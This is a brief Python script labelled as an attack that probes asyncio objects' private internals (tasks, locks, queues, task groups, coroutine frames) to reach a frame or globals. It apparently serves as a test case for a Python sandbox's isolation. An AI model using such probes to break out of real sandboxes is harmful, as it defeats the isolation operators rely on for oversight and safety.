# attack: read the private state of the asyncio objects (waiters, loop, coroutine, task sets, handles) to reach a frame or the runtime
import asyncio

found = []


def grab(obj, names):
    for name in names:
        try:
            found.append(getattr(obj, name))
        except AttributeError:
            pass
    try:
        found.append(vars(obj))
    except TypeError:
        pass


async def child():
    await asyncio.sleep(1)


async def main():
    task = asyncio.create_task(child())
    await asyncio.sleep(0)
    grab(task, ["_coro", "_loop", "_callbacks", "_waiting_on", "__dict__", "get_coro", "get_loop", "_step"])
    grab(asyncio.Future(), ["_loop", "_callbacks", "__dict__", "get_loop"])
    lock = asyncio.Lock()
    await lock.acquire()
    waiter = asyncio.create_task(lock.acquire())
    await asyncio.sleep(0)
    grab(lock, ["_waiters", "_locked", "__dict__", "_get_loop", "_loop"])
    grab(asyncio.Event(), ["_waiters", "_value", "__dict__"])
    grab(asyncio.Condition(), ["_lock", "_waiters", "__dict__"])
    grab(asyncio.Semaphore(), ["_waiters", "_value", "__dict__"])
    q = asyncio.Queue()
    q.put_nowait(1)
    grab(q, ["_queue", "_getters", "_putters", "_finished", "_loop", "__dict__"])
    async with asyncio.TaskGroup() as tg:
        tg.create_task(child())
        grab(tg, ["_tasks", "_parent_task", "_loop", "_errors", "__dict__", "_on_completed_fut"])
        async with asyncio.timeout(5) as cm:
            grab(cm, ["_task", "_timeout_handler", "__dict__"])
        for t in list(asyncio.all_tasks()):
            if t is not asyncio.current_task():
                t.cancel()
    waiter.cancel()
    for cls in (asyncio.Lock, asyncio.Queue, asyncio.TaskGroup, asyncio.Timeout, asyncio.Task):
        grab(cls, ["__dict__", "_wake_up_first", "_put", "_abort", "_on_timeout", "_step", "__init__"])
    gen = asyncio.as_completed([asyncio.sleep(0)])
    grab(gen, ["gi_frame", "gi_code", "gi_yieldfrom"])
    coro = asyncio.wait_for(asyncio.sleep(0), 1)
    grab(coro, ["cr_frame", "cr_code", "cr_await"])
    coro.close()
    for value in found:
        for attr in ("cr_frame", "gi_frame", "rt", "f_globals", "tb_frame"):
            try:
                return getattr(value, attr)
            except AttributeError:
                pass
    return [type(v).__name__ for v in found]


result = asyncio.run(main())
result
